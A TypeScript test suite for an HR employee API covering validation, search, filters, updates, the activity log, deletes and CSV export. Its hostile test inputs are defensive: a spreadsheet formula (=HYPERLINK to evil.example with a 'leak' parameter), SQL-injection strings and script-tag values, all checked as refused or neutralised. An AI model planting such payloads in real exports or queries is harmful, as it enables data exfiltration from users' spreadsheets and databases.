// Employees: create with a generated staff id, field rules with their messages, duplicates, list
// search/filters/sort/pagination, detail, update, team moves and resignations in the activity log, delete, exports,
// hostile text and the linked system user.
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ERRORS } from '../../contract/messages.ts';
import { XLSX_TYPE } from '../../server/lib/spreadsheet.ts';
import { businessToday } from '../../server/lib/time.ts';
import { createTestApp, DIALECTS, type TestApp } from '../../server/testing/test-app.ts';
import { employeeBody, logOf, parseCsv, unique } from './directory-fixtures.ts';
import { BASE, fingerprint, p } from './helpers.ts';
import { addDays } from '../../contract/dates.ts';

const EMP = `${BASE}/employee`;
const JSON_HEADERS = { 'content-type': 'application/json' };

const pad = (id: number) => `EMP-${String(id).padStart(6, '0')}`;

interface Item {
  id: number;
  staff_id: string;
  first_name: string;
  last_name: string;
  full_name: string;
  team: { id: number; name: string } | null;
  department: { id: number; name: string } | null;
  offices: Array<{ id: number; name: string }>;
  probation: string;
  salary_cents: number;
  status: string;
  join_date: string;
  user: { id: number; username: string } | null;
  [key: string]: unknown;
}

describe.each(DIALECTS)('employees on %s', (dialect) => {
  let t: TestApp;
  /** A user with exactly the employee permissions: every change is made by them, so the log names them. */
  let hr: { id: number; username: string; token: string };
  let officeA: number;
  let officeB: number;
  let deptId: number;
  let teamId: number;
  let team2Id: number;

  const post = async (path: string, body: unknown) => {
    const res = await t.call('POST', `${BASE}/${path}`, { token: t.adminToken, body });
    expect(res.statusCode, res.body).toBe(201);
    return res.json().data as { id: number; name: string };
  };
  const create = (body: unknown, token = hr.token) => t.call('POST', EMP, { token, body });
  const created = async (overrides: Record<string, unknown> = {}) => {
    const res = await create(employeeBody([officeA], { team_id: teamId, ...overrides }));
    expect(res.statusCode, res.body).toBe(201);
    return res.json().data as Item;
  };
  const patch = (id: number, body: unknown) => t.call('PATCH', `${EMP}/${id}`, { token: hr.token, body });
  const list = (query: string) => t.call('GET', `${EMP}?${query}`, { token: hr.token });
  const listed = async (query: string) => {
    const res = await list(query);
    expect(res.statusCode, res.body).toBe(200);
    return res.json() as { data: Item[]; metadata: Record<string, unknown> };
  };
  const row = (id: number) => t.db.kysely.selectFrom('employee').selectAll().where('id', '=', id).executeTakeFirst();

  /** Sends a request that must be refused with `status`, and proves nothing changed (activity log included). */
  async function refused(status: number, send: () => Promise<{ statusCode: number; body: string; json: () => any }>) {
    const before = await fingerprint(t);
    const res = await send();
    expect(res.statusCode, res.body).toBe(status);
    expect(await fingerprint(t), 'a refused request changed the database').toEqual(before);
    return res.json() as { message: string; validators?: Array<{ field: string; message: string }> };
  }

  beforeAll(async () => {
    t = await createTestApp(dialect);
    hr = await t.createUser([
      p('employee', 'read'),
      p('employee', 'create'),
      p('employee', 'update'),
      p('employee', 'delete'),
      // Pay details reach only users with payroll read (the matrix covers their absence).
      p('payroll', 'read'),
    ]);
    officeA = (
      await post('office', {
        name: 'Riverside Office',
        address: 'Sisowath Quay',
        latitude: 11.5696,
        longitude: 104.9304,
        radius_m: 150,
      })
    ).id;
    officeB = (
      await post('office', {
        name: 'BKK1 Office',
        address: 'Street 278',
        latitude: 11.5518,
        longitude: 104.9233,
        radius_m: 200,
      })
    ).id;
    deptId = (await post('department', { name: 'Engineering' })).id;
    teamId = (await post('team', { name: 'Platform', department_id: deptId })).id;
    team2Id = (await post('team', { name: 'Web', department_id: deptId })).id;
  });
  afterAll(() => t?.close());

  describe('create', () => {
    it('generates a readable staff id from the record id, unique per employee, and writes offices, search terms and the log', async () => {
      const a = await created();
      const b = await created();
      expect(a.staff_id).toBe(pad(a.id));
      expect(b.staff_id).toBe(pad(b.id));
      expect(a.staff_id).toMatch(/^EMP-\d{6}$/);
      expect(a.staff_id).not.toBe(b.staff_id);
      expect((await row(a.id))?.staff_id).toBe(a.staff_id);
      const offices = await t.db.kysely
        .selectFrom('employee_office')
        .select('office_id')
        .where('employee_id', '=', a.id)
        .execute();
      expect(offices.map((o) => o.office_id)).toEqual([officeA]);
      const terms = await t.db.kysely
        .selectFrom('employee_term')
        .select('term')
        .where('employee_id', '=', a.id)
        .execute();
      expect(terms.map((x) => x.term)).toContain(a.staff_id.toLowerCase());
      const [log] = await logOf(t, 'employee', a.id);
      expect(log).toMatchObject({ action: 'create', actor_id: hr.id, actor_username: hr.username });
      expect(JSON.parse(log.after!)).toMatchObject({ staff_id: a.staff_id, office_ids: [officeA], has_photo: false });
      expect(JSON.parse(log.after!)).not.toHaveProperty('photo');
    });

    it('answers 201 with the full record, defaults status to active and probation from the end date', async () => {
      const body = employeeBody([officeA, officeB], {
        team_id: teamId,
        first_name: 'Chan',
        last_name: 'Sreymom',
        gender: 'female',
      });
      const res = await create(body);
      expect(res.statusCode).toBe(201);
      expect(res.json().message).toBe('Employee created successfully!');
      const e = res.json().data;
      expect(e).toMatchObject({
        first_name: 'Chan',
        last_name: 'Sreymom',
        full_name: 'Chan Sreymom',
        email: body.email,
        status: 'active',
        probation: 'passed',
        salary_cents: 150_000,
        team: { id: teamId, name: 'Platform' },
        department: { id: deptId, name: 'Engineering' },
        photo: null,
        has_photo: false,
        user: null,
      });
      expect(e.offices.map((o: { name: string }) => o.name)).toEqual(['BKK1 Office', 'Riverside Office']);
    });

    it('keeps a given staff id (upper-cased) and refuses the same id in any case with 409, writing nothing', async () => {
      const e = await created({ staff_id: 'kh-0042' });
      expect(e.staff_id).toBe('KH-0042');
      const res = await refused(409, () => create(employeeBody([officeA], { staff_id: 'Kh-0042' })));
      expect(res.message).toBe("Staff ID 'KH-0042' is already taken.");
      const bad = await refused(400, () => create(employeeBody([officeA], { staff_id: 'a b' })));
      expect(bad.validators).toEqual([
        { field: 'staff_id', message: 'Staff ID must be 3–20 capital letters, digits or dashes.' },
      ]);
    });

    it('never hands out a staff id an imported record already holds', async () => {
      const holder = await created({ staff_id: 'TMP-HOLDER' });
      // The next record will get id holder.id + 1; make its natural staff id taken first.
      expect((await patch(holder.id, { staff_id: pad(holder.id + 1) })).statusCode).toBe(200);
      const next = await created();
      expect(next.id).toBe(holder.id + 1);
      expect(next.staff_id).toBe(`${pad(next.id)}-2`);
    });

    it('refuses a duplicate email whatever its case (409) and writes nothing', async () => {
      const e = await created({ email: 'keo.vanna@example.com' });
      const res = await refused(409, () => create(employeeBody([officeA], { email: 'Keo.VANNA@Example.com' })));
      expect(res.message).toBe("Email 'keo.vanna@example.com' is already taken.");
      // Updating someone else to that address is refused the same way.
      const other = await created();
      await refused(409, () => patch(other.id, { email: 'KEO.vanna@example.com' }));
      // Keeping one's own address is fine.
      expect((await patch(e.id, { email: 'Keo.Vanna@example.com' })).statusCode).toBe(200);
    });

    it('lists every missing required field with its message, writing nothing', async () => {
      const res = await refused(400, () => create({}));
      expect(res.validators).toEqual(
        expect.arrayContaining([
          { field: 'first_name', message: 'First name is required.' },
          { field: 'last_name', message: 'Last name is required.' },
          { field: 'gender', message: 'Gender must be male, female or other.' },
          { field: 'date_of_birth', message: 'Date of birth is required.' },
          { field: 'phone', message: 'Phone is required.' },
          { field: 'email', message: 'Email is required.' },
          { field: 'position', message: 'Position is required.' },
          { field: 'office_ids', message: 'Offices is required.' },
          { field: 'join_date', message: 'Join date is required.' },
          { field: 'salary_cents', message: 'Monthly salary must be a number of cents.' },
        ]),
      );
      const blank = await refused(400, () => create(employeeBody([officeA], { first_name: '   ' })));
      expect(blank.validators).toEqual([{ field: 'first_name', message: 'First name is required.' }]);
      const noOffice = await refused(400, () => create(employeeBody([])));
      expect(noOffice.validators).toEqual([{ field: 'office_ids', message: 'Select at least one office.' }]);
    });

    const tomorrow = addDays(new Date().toISOString().slice(0, 10), 1);
    it.each([
      ['email', 'not-an-email', 'Email must be a valid email address.'],
      ['email', 'a@b', 'Email must be a valid email address.'],
      ['phone', 'call me', 'Phone must be a valid phone number.'],
      ['phone', '12', 'Phone must be a valid phone number.'],
      ['date_of_birth', tomorrow, 'Date of birth must be in the past.'],
      ['date_of_birth', '1990-02-30', 'Date of birth must be a real date.'],
      ['date_of_birth', '14/03/1991', 'Date of birth must be a date (YYYY-MM-DD).'],
      ['date_of_birth', '1899-12-31', 'Date of birth must be between 1900-01-01 and 2100-12-31.'],
      ['join_date', '2023-02-29', 'Join date must be a real date.'],
      ['probation_end_date', '2021-02-30', 'Probation end date must be a real date.'],
      ['probation_end_date', '2021-06-01', 'Probation end date must be after the join date.'],
      ['probation_end_date', '2021-05-01', 'Probation end date must be after the join date.'],
      ['gender', 'unknown', 'Gender must be male, female or other.'],
      ['status', 'fired', 'Status must be active or resigned.'],
      ['bank_account', 'IBAN<script>', 'Bank account can only contain digits, spaces and dashes.'],
      ['team_id', 999_999, 'Team does not exist.'],
      ['office_ids', [999_999], 'One of the offices does not exist.'],
      ['photo', 'data:text/html;base64,PHNjcmlwdD4=', 'Photo must be a PNG, JPEG or WebP image.'],
    ])('refuses %s = %j with "%s", writing nothing', async (field, value, message) => {
      const res = await refused(400, () => create(employeeBody([officeA], { [field]: value })));
      expect(res.validators?.[0]).toEqual({ field, message });
      expect(res.message).toBe(message);
      // A date in the future is also after the join date; otherwise one message, no echo from cross-field rules.
      if (value !== tomorrow) expect(res.validators).toHaveLength(1);
    });

    it('accepts 29 February of a leap year', async () => {
      expect((await created({ date_of_birth: '1992-02-29' })).date_of_birth).toBe('1992-02-29');
    });

    it('refuses a join date before the date of birth', async () => {
      const res = await refused(400, () =>
        create(
          employeeBody([officeA], { date_of_birth: '2004-05-01', join_date: '2003-01-01', probation_end_date: null }),
        ),
      );
      expect(res.validators).toEqual([{ field: 'join_date', message: 'Join date must be after the date of birth.' }]);
    });

    it.each([
      ['1e308', 'Monthly salary is too large.'],
      ['"NaN"', 'Monthly salary must be a number of cents.'],
      ['"150000"', 'Monthly salary must be a number of cents.'],
      ['-0', 'Monthly salary cannot be negative.'],
      ['-100', 'Monthly salary cannot be negative.'],
      ['12.5', 'Monthly salary must be a whole number of cents.'],
      ['null', 'Monthly salary must be a number of cents.'],
    ])('refuses salary_cents %s (money is integer cents), writing nothing', async (raw, message) => {
      // Raw JSON, so -0 and 1e308 reach the server as written.
      const body = JSON.stringify(employeeBody([officeA], { salary_cents: 0 })).replace(
        '"salary_cents":0',
        `"salary_cents":${raw}`,
      );
      const res = await refused(400, () => t.call('POST', EMP, { token: hr.token, body, headers: JSON_HEADERS }));
      expect(res.validators).toEqual([{ field: 'salary_cents', message }]);
    });

    it('stores salary as integer cents up to the cap', async () => {
      const e = await created({ salary_cents: 1_000_000_000 });
      expect(e.salary_cents).toBe(1_000_000_000);
      expect(Number((await row(e.id))!.salary_cents)).toBe(1_000_000_000);
      expect((await created({ salary_cents: 0 })).salary_cents).toBe(0);
    });

    it.each([['id'], ['is_admin'], ['created_at'], ['user_id']])(
      'refuses the unknown field %s, writing nothing',
      async (field) => {
        const res = await refused(400, () => create(employeeBody([officeA], { [field]: 1 })));
        expect(res.validators).toEqual([{ field, message: `${field} is not allowed.` }]);
      },
    );

    it('needs the create permission', async () => {
      const reader = await t.createUser([p('employee', 'read')]);
      const res = await refused(403, () => create(employeeBody([officeA]), reader.token));
      expect(res.message).toBe(ERRORS.forbidden);
    });
  });

  describe('list', () => {
    // A department of its own, so every count below is exact.
    let dept: number;
    let l1: number;
    let l2: number;
    const people: Record<string, Item> = {};
    const today = businessToday();

    beforeAll(async () => {
      dept = (await post('department', { name: 'Listing' })).id;
      l1 = (await post('team', { name: 'Alpha', department_id: dept })).id;
      l2 = (await post('team', { name: 'Beta', department_id: dept })).id;
      const specs: Array<[string, string, number, number[], Record<string, unknown>]> = [
        [
          'Sokunthea',
          'Meas',
          l1,
          [officeA],
          { salary_cents: 100_000, join_date: '2019-01-07', probation_end_date: '2019-04-07' },
        ],
        [
          'Chanthou',
          'Prak',
          l1,
          [officeA, officeB],
          { salary_cents: 250_000, join_date: addDays(today, -30), probation_end_date: addDays(today, 60) },
        ],
        [
          'Vannak',
          'Keomony',
          l2,
          [officeB],
          { salary_cents: 90_000, join_date: '2018-03-01', probation_end_date: null, status: 'resigned' },
        ],
        [
          'Bophavy',
          'Limsong',
          l2,
          [officeA],
          { salary_cents: 120_000, join_date: addDays(today, -10), probation_end_date: addDays(today, 80) },
        ],
        [
          'Rithy',
          'Hengsok',
          l1,
          [officeB],
          { salary_cents: 175_000, join_date: '2022-08-15', probation_end_date: today },
        ],
        [
          'Emilia',
          'Carterson',
          l2,
          [officeA],
          { salary_cents: 300_000, join_date: '2020-11-02', probation_end_date: '2021-02-02' },
        ],
      ];
      for (const [first, last, team, offices, extra] of specs) {
        const res = await create(
          employeeBody(offices, { first_name: first, last_name: last, team_id: team, ...extra }),
        );
        expect(res.statusCode, res.body).toBe(201);
        people[first] = res.json().data;
      }
    });

    const names = (items: Item[]) => items.map((e) => e.first_name);

    it('pages with full metadata, pages disjoint', async () => {
      const first = await listed(`department_id=${dept}&limit=4`);
      expect(first.metadata).toEqual({ page: 1, limit: 4, total: 6, totalPage: 2, hasPrev: false, hasNext: true });
      expect(first.data).toHaveLength(4);
      const second = await listed(`department_id=${dept}&limit=4&page=2`);
      expect(second.metadata).toEqual({ page: 2, limit: 4, total: 6, totalPage: 2, hasPrev: true, hasNext: false });
      expect(second.data).toHaveLength(2);
      expect(names(first.data).filter((n) => names(second.data).includes(n))).toEqual([]);
      const all = await listed('');
      expect(all.metadata).toMatchObject({ page: 1, limit: 10 });
      expect(all.data).toHaveLength(10);
      // The unfiltered total (read with the page) is every employee, also on a page past the end.
      const counted = await t.db.kysely
        .selectFrom('employee')
        .select((eb) => eb.fn.countAll().as('n'))
        .executeTakeFirstOrThrow();
      const everyone = Number(counted.n);
      expect(all.metadata.total).toBe(everyone);
      const beyond = await listed(`page=${Math.ceil(everyone / 10) + 1}`);
      expect(beyond.data).toEqual([]);
      expect(beyond.metadata).toMatchObject({ total: everyone, hasNext: false });
      // Newest first by default.
      expect(names((await listed(`department_id=${dept}`)).data)).toEqual([
        'Emilia',
        'Rithy',
        'Bophavy',
        'Vannak',
        'Chanthou',
        'Sokunthea',
      ]);
    });

    it.each([
      ['page=0'],
      ['limit=0'],
      ['limit=101'],
      ['page=-1'],
      ['limit=abc'],
      ['department_id=abc'],
      ['office_id=-1'],
      ['team_id=1.5'],
      ['status=fired'],
      ['probation=maybe'],
      ['sort=password'],
      ['sort=name;drop table employee'],
      ['unknown=1'],
    ])('refuses %s with 400', async (query) => {
      const res = await list(query);
      expect(res.statusCode, res.body).toBe(400);
      expect(res.json().validators.length).toBeGreaterThan(0);
    });

    it('gives the allow-list messages for sort, status and probation', async () => {
      expect((await list('sort=password')).json().validators).toEqual([
        { field: 'sort', message: 'sort is not allowed.' },
      ]);
      expect((await list('status=x')).json().validators).toEqual([
        { field: 'status', message: 'Status must be active or resigned.' },
      ]);
      expect((await list('probation=x')).json().validators).toEqual([
        { field: 'probation', message: 'probation must be passed, on_probation or none.' },
      ]);
    });

    it.each([
      ['first name prefix', 'sokun', ['Sokunthea']],
      ['first name, any case', 'CHANTHOU', ['Chanthou']],
      ['last name', 'keomo', ['Vannak']],
      ['"first last" prefix', 'bophavy lim', ['Bophavy']],
      ['"last first"', 'hengsok ri', ['Rithy']],
      ['extra spaces', '  emilia   carter ', ['Emilia']],
      ['no match', 'sokunthea x', []],
      ['SQL', "' OR 1=1 --", []],
      ['a wildcard', '%', []],
    ])('searches by %s (%j)', async (_what, q, expected) => {
      const res = await listed(`q=${encodeURIComponent(q)}&limit=100`);
      expect(names(res.data).sort()).toEqual([...expected].sort());
      expect(res.metadata.total).toBe(expected.length);
    });

    it('searches by staff id, its number, and email prefix', async () => {
      const e = people.Sokunthea;
      expect(names((await listed(`q=${e.staff_id}`)).data)).toEqual(['Sokunthea']);
      expect(names((await listed(`q=${e.staff_id.toLowerCase()}`)).data)).toEqual(['Sokunthea']);
      const number = String(e.id);
      expect((await listed(`q=${number}&limit=100`)).data.map((x) => x.id)).toContain(e.id);
      // Typed as shown in the table, with the zero padding.
      expect((await listed(`q=${e.staff_id.slice(4)}&limit=100`)).data.map((x) => x.id)).toContain(e.id);
      expect((await listed(`q=${encodeURIComponent(String(e.email).split('@')[0])}`)).data.map((x) => x.id)).toEqual([
        e.id,
      ]);
    });

    it('filters by department, team, office, status and probation, alone and together', async () => {
      const by = async (query: string) =>
        names((await listed(`department_id=${dept}&limit=100&sort=name&${query}`)).data);
      expect(await by('')).toEqual(['Bophavy', 'Chanthou', 'Emilia', 'Rithy', 'Sokunthea', 'Vannak']);
      expect(await by(`team_id=${l1}`)).toEqual(['Chanthou', 'Rithy', 'Sokunthea']);
      expect(await by(`office_id=${officeB}`)).toEqual(['Chanthou', 'Rithy', 'Vannak']);
      expect(await by('status=resigned')).toEqual(['Vannak']);
      expect(await by('status=active')).toEqual(['Bophavy', 'Chanthou', 'Emilia', 'Rithy', 'Sokunthea']);
      // An end date of today has passed; no end date at all is a hire with no probation, not a passed one.
      expect(await by('probation=on_probation')).toEqual(['Bophavy', 'Chanthou']);
      expect(await by('probation=passed')).toEqual(['Emilia', 'Rithy', 'Sokunthea']);
      expect(await by('probation=none')).toEqual(['Vannak']);
      expect(await by(`team_id=${l2}&office_id=${officeA}&probation=passed`)).toEqual(['Emilia']);
      expect(await by('q=chan')).toEqual(['Chanthou']);
      // Best match first (no sort): the search reads the term index, then applies the department.
      const inDepartment = await listed(`department_id=${dept}&q=chan`);
      expect(names(inDepartment.data)).toEqual(['Chanthou']);
      expect(inDepartment.metadata.total).toBe(1);
      // Another department's filter excludes everyone here.
      expect((await listed(`department_id=${deptId}&team_id=${l1}`)).metadata.total).toBe(0);
      expect((await listed('department_id=999999')).data).toEqual([]);
    });

    it('sorts by each allow-listed key, both ways', async () => {
      const by = async (sort: string) => names((await listed(`department_id=${dept}&limit=100&sort=${sort}`)).data);
      const asc = ['Bophavy', 'Chanthou', 'Emilia', 'Rithy', 'Sokunthea', 'Vannak'];
      expect(await by('name')).toEqual(asc);
      expect(await by('-name')).toEqual([...asc].reverse());
      expect(await by('salary')).toEqual(['Vannak', 'Sokunthea', 'Bophavy', 'Rithy', 'Chanthou', 'Emilia']);
      expect(await by('-salary')).toEqual(['Emilia', 'Chanthou', 'Rithy', 'Bophavy', 'Sokunthea', 'Vannak']);
      expect(await by('join_date')).toEqual(['Vannak', 'Sokunthea', 'Emilia', 'Rithy', 'Chanthou', 'Bophavy']);
      expect(await by('-join_date')).toEqual(['Bophavy', 'Chanthou', 'Rithy', 'Emilia', 'Sokunthea', 'Vannak']);
      expect(await by('created_at')).toEqual(['Sokunthea', 'Chanthou', 'Vannak', 'Bophavy', 'Rithy', 'Emilia']);
      expect(await by('staff_id')).toEqual(['Sokunthea', 'Chanthou', 'Vannak', 'Bophavy', 'Rithy', 'Emilia']);
      expect(await by('-staff_id')).toEqual(['Emilia', 'Rithy', 'Bophavy', 'Vannak', 'Chanthou', 'Sokunthea']);
    });

    it('shows team, department and probation state on each row, and no personal or pay details', async () => {
      const [c] = (await listed('q=chanthou')).data;
      expect(c).toMatchObject({
        team: { id: l1, name: 'Alpha' },
        department: { id: dept, name: 'Listing' },
        probation: 'on_probation',
        has_photo: false,
      });
      for (const field of ['photo', 'date_of_birth', 'address', 'salary_cents', 'bank_name', 'bank_account', 'offices'])
        expect(c).not.toHaveProperty(field);
      const detail = (await t.call('GET', `${EMP}/${c.id}`, { token: hr.token })).json().data;
      expect(detail.offices.map((o: { id: number }) => o.id).sort()).toEqual([officeA, officeB].sort());
      expect(detail).toMatchObject({
        first_name: c.first_name,
        staff_id: c.staff_id,
        salary_cents: expect.any(Number),
      });
    });

    it('needs the read permission', async () => {
      const other = await t.createUser([p('department', 'read')]);
      expect((await t.call('GET', EMP, { token: other.token })).statusCode).toBe(403);
      expect((await t.call('GET', EMP)).statusCode).toBe(401);
    });
  });

  describe('detail', () => {
    it('shows offices, team, department, probation and the photo', async () => {
      const today = businessToday();
      const photo =
        'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';
      const e = await created({
        office_ids: [officeB, officeA],
        team_id: team2Id,
        join_date: addDays(today, -5),
        probation_end_date: addDays(today, 1),
        photo,
      });
      const res = await t.call('GET', `${EMP}/${e.id}`, { token: hr.token });
      expect(res.statusCode).toBe(200);
      expect(res.json().data).toMatchObject({
        id: e.id,
        team: { id: team2Id, name: 'Web' },
        department: { id: deptId, name: 'Engineering' },
        offices: [
          { id: officeB, name: 'BKK1 Office' },
          { id: officeA, name: 'Riverside Office' },
        ],
        probation: 'on_probation',
        has_photo: true,
        photo,
      });
      const passed = await created({ join_date: '2020-01-01', probation_end_date: '2020-03-31', team_id: null });
      const detail = (await t.call('GET', `${EMP}/${passed.id}`, { token: hr.token })).json().data;
      expect(detail).toMatchObject({
        probation: 'passed',
        team: null,
        department: null,
        photo: null,
        has_photo: false,
      });
      // A hire with no probation end date had no probation: "none", not "passed".
      const unprobed = await created({ join_date: '2020-01-01', probation_end_date: null, team_id: null });
      expect((await t.call('GET', `${EMP}/${unprobed.id}`, { token: hr.token })).json().data.probation).toBe('none');
    });

    it('answers 404 for an unknown id and 400 for a bad one', async () => {
      const res = await t.call('GET', `${EMP}/999999`, { token: hr.token });
      expect(res.statusCode).toBe(404);
      expect(res.json().message).toBe('Employee not found');
      expect((await t.call('GET', `${EMP}/abc`, { token: hr.token })).statusCode).toBe(400);
      expect((await t.call('GET', `${EMP}/0`, { token: hr.token })).statusCode).toBe(400);
    });
  });

  describe('update', () => {
    it('changes only the fields sent, and logs before and after with the actor', async () => {
      const e = await created();
      const before = await row(e.id);
      const res = await patch(e.id, { phone: '+855 97 000 111', position: 'Lead Engineer' });
      expect(res.statusCode, res.body).toBe(200);
      expect(res.json().message).toBe('Employee updated successfully!');
      const after = await row(e.id);
      expect(after).toMatchObject({
        ...before,
        phone: '+855 97 000 111',
        position: 'Lead Engineer',
        updated_at: expect.any(String),
      });
      const log = (await logOf(t, 'employee', e.id)).at(-1)!;
      expect(log).toMatchObject({ action: 'update', actor_id: hr.id, actor_username: hr.username });
      expect(JSON.parse(log.before!)).toMatchObject({ phone: '+855 12 345 678', position: 'Software Engineer' });
      expect(JSON.parse(log.after!)).toMatchObject({ phone: '+855 97 000 111', position: 'Lead Engineer' });
    });

    it('replaces offices and keeps search terms current after a rename', async () => {
      const e = await created({ first_name: 'Kimsour', last_name: 'Tepy' });
      expect((await patch(e.id, { office_ids: [officeB], first_name: 'Kimsan' })).statusCode).toBe(200);
      const offices = await t.db.kysely
        .selectFrom('employee_office')
        .select('office_id')
        .where('employee_id', '=', e.id)
        .execute();
      expect(offices.map((o) => o.office_id)).toEqual([officeB]);
      expect((await listed('q=kimsour')).data).toEqual([]);
      expect((await listed('q=kimsan tep')).data.map((x) => x.id)).toEqual([e.id]);
    });

    it('refuses an empty body, unknown fields and rules broken by the merged record, changing nothing', async () => {
      const e = await created({ join_date: '2021-06-01', probation_end_date: '2021-09-01' });
      expect((await refused(400, () => patch(e.id, {}))).message).toBe('Nothing to update.');
      expect((await refused(400, () => patch(e.id, { staff_id: 'X-1', id: 5 }))).validators).toEqual([
        { field: 'id', message: 'id is not allowed.' },
      ]);
      const probation = await refused(400, () => patch(e.id, { probation_end_date: '2021-05-31' }));
      expect(probation.validators).toEqual([
        { field: 'probation_end_date', message: 'Probation end date must be after the join date.' },
      ]);
      const join = await refused(400, () => patch(e.id, { join_date: '2021-12-01' }));
      expect(join.validators).toEqual([
        { field: 'probation_end_date', message: 'Probation end date must be after the join date.' },
      ]);
      const born = await refused(400, () =>
        patch(e.id, { date_of_birth: '2004-05-01', join_date: '2003-01-01', probation_end_date: null }),
      );
      expect(born.validators).toEqual([{ field: 'join_date', message: 'Join date must be after the date of birth.' }]);
      await refused(400, () => patch(e.id, { salary_cents: 12.5 }));
      await refused(400, () => patch(e.id, { team_id: 999_999 }));
      await refused(400, () => patch(e.id, { office_ids: [] }));
      await refused(404, () => patch(999_999, { position: 'Ghost' }));
    });

    it('logs a team move as move-team with the team before and after, and the department follows', async () => {
      const e = await created({ team_id: teamId });
      const res = await patch(e.id, { team_id: team2Id });
      expect(res.statusCode, res.body).toBe(200);
      expect(res.json().data).toMatchObject({ team: { id: team2Id, name: 'Web' }, department: { id: deptId } });
      expect((await row(e.id))?.team_id).toBe(team2Id);
      const log = (await logOf(t, 'employee', e.id)).at(-1)!;
      expect(log).toMatchObject({ action: 'move-team', actor_id: hr.id, actor_username: hr.username });
      expect(JSON.parse(log.before!).team_id).toBe(teamId);
      expect(JSON.parse(log.after!).team_id).toBe(team2Id);
      // Moving out of every team is a move too.
      expect((await patch(e.id, { team_id: null })).statusCode).toBe(200);
      const out = (await logOf(t, 'employee', e.id)).at(-1)!;
      expect(out.action).toBe('move-team');
      expect(JSON.parse(out.after!).team_id).toBeNull();
      // The history reads through the activity-log API too.
      const api = await t.call('GET', `${BASE}/activity-log?resource=employee&record_id=${e.id}`, {
        token: t.adminToken,
      });
      expect(api.json().data.map((x: { action: string }) => x.action)).toEqual(['move-team', 'move-team', 'create']);
    });

    it('logs a resignation as resign, and the list filters it', async () => {
      const e = await created({ first_name: 'Resigna', last_name: 'Tion' });
      const res = await patch(e.id, { status: 'resigned' });
      expect(res.statusCode).toBe(200);
      expect(res.json().data.status).toBe('resigned');
      const log = (await logOf(t, 'employee', e.id)).at(-1)!;
      expect(log).toMatchObject({ action: 'resign', actor_id: hr.id });
      expect(JSON.parse(log.before!).status).toBe('active');
      expect(JSON.parse(log.after!).status).toBe('resigned');
      expect((await listed('q=resigna&status=resigned')).data.map((x) => x.id)).toEqual([e.id]);
      expect((await listed('q=resigna&status=active')).data).toEqual([]);
    });
  });

  describe('delete', () => {
    it('removes the employee with offices, terms and project memberships, clears manager/lead/user links, and logs it', async () => {
      const e = await created({ first_name: 'Deleta', last_name: 'Ble' });
      const dept = (await post('department', { name: unique('Doomed '), manager_id: e.id })).id;
      const team = (await post('team', { name: 'Doomed team', department_id: dept, lead_id: e.id })).id;
      await post('project', {
        name: 'Doomed project',
        code: unique('D'),
        member_ids: [e.id],
        start_date: '2026-01-01',
      });
      const user = await t.createUser([]);
      await t.db.kysely.updateTable('sys_user').set({ employee_id: e.id }).where('id', '=', user.id).execute();

      const res = await t.call('DELETE', `${EMP}/${e.id}`, { token: hr.token });
      expect(res.statusCode, res.body).toBe(200);
      expect(res.json().message).toBe('Employee deleted successfully!');
      expect(await row(e.id)).toBeUndefined();
      for (const table of ['employee_office', 'employee_term', 'project_member'] as const) {
        expect(
          await t.db.kysely.selectFrom(table).select('employee_id').where('employee_id', '=', e.id).execute(),
          table,
        ).toEqual([]);
      }
      expect(
        (await t.db.kysely.selectFrom('department').select('manager_id').where('id', '=', dept).executeTakeFirst())
          ?.manager_id,
      ).toBeNull();
      expect(
        (await t.db.kysely.selectFrom('team').select('lead_id').where('id', '=', team).executeTakeFirst())?.lead_id,
      ).toBeNull();
      expect(
        (await t.db.kysely.selectFrom('sys_user').select('employee_id').where('id', '=', user.id).executeTakeFirst())
          ?.employee_id,
      ).toBeNull();
      const log = (await logOf(t, 'employee', e.id)).at(-1)!;
      expect(log).toMatchObject({ action: 'delete', actor_id: hr.id, actor_username: hr.username, after: null });
      expect(JSON.parse(log.before!)).toMatchObject({ first_name: 'Deleta', staff_id: e.staff_id });
      expect((await listed('q=deleta')).data).toEqual([]);
      // Again: 404, nothing changed.
      await refused(404, () => t.call('DELETE', `${EMP}/${e.id}`, { token: hr.token }));
    });

    it('needs the delete permission', async () => {
      const e = await created();
      const editor = await t.createUser([p('employee', 'read'), p('employee', 'update')]);
      await refused(403, () => t.call('DELETE', `${EMP}/${e.id}`, { token: editor.token }));
    });
  });

  describe('export', () => {
    let dept: number;
    let evil: Item;
    const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

    beforeAll(async () => {
      dept = (await post('department', { name: 'Exported' })).id;
      const team = (await post('team', { name: 'Ex', department_id: dept })).id;
      evil = await created({
        team_id: team,
        first_name: '@SUM(1+1)',
        last_name: '+cmd',
        address: '-2+3',
        position: FORMULA,
        salary_cents: 123_456,
        bank_account: '0012 3456',
      });
      await created({
        team_id: team,
        first_name: 'Plain',
        last_name: 'Resigned',
        status: 'resigned',
        salary_cents: 100_000,
      });
    });

    it('exports .csv with the list filters, formula cells neutralised and numbers kept as numbers', async () => {
      const res = await t.call('GET', `${EMP}/export?format=csv&department_id=${dept}&sort=name`, { token: hr.token });
      expect(res.statusCode).toBe(200);
      expect(res.headers['content-type']).toMatch(/^text\/csv/);
      expect(res.headers['content-disposition']).toBe('attachment; filename="employees.csv"');
      const [header, ...body] = parseCsv(res.body);
      expect(body).toHaveLength(2);
      const col = (name: string) => header.indexOf(name);
      const e = body.find((r) => r[col('Staff ID')] === evil.staff_id)!;
      expect(e[col('First Name')]).toBe("'@SUM(1+1)");
      expect(e[col('Last Name')]).toBe("'+cmd");
      expect(e[col('Address')]).toBe("'-2+3");
      expect(e[col('Position')]).toBe(`'${FORMULA}`);
      expect(e[col('Department')]).toBe('Exported');
      expect(e[col('Monthly Salary (USD)')]).toBe('1234.56');
      expect(res.body).toContain(',1234.56,');
      expect(e[col('Bank Account')]).toBe('0012 3456');
      // Same filters as the list: status narrows the export.
      const resigned = parseCsv(
        (await t.call('GET', `${EMP}/export?format=csv&department_id=${dept}&status=resigned`, { token: hr.token }))
          .body,
      );
      expect(resigned.slice(1).map((r) => r[col('First Name')])).toEqual(['Plain']);
      const searched = parseCsv(
        (await t.call('GET', `${EMP}/export?format=csv&q=plain%20resig`, { token: hr.token })).body,
      );
      expect(searched).toHaveLength(2);
    });

